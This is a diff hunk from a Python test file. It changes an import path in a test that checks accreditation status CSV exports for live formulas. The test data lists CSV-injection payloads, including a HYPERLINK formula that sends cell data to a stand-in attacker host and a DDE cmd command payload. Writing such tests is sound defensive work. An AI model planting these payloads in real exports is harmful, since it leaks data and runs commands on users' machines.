@@ -234,7 +234,7 @@ def test_csv_cells_are_neutralised(cell, expected):
 
 
 def test_accreditation_status_csv_has_no_live_formulas():
-    from qieval.accreditation.summary import STATUS_COLUMNS, status_csv_text
+    from qieval.accreditation.evaluation import STATUS_COLUMNS, status_csv_text
 
     hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                "-1+1", "\t=1", "=1"]
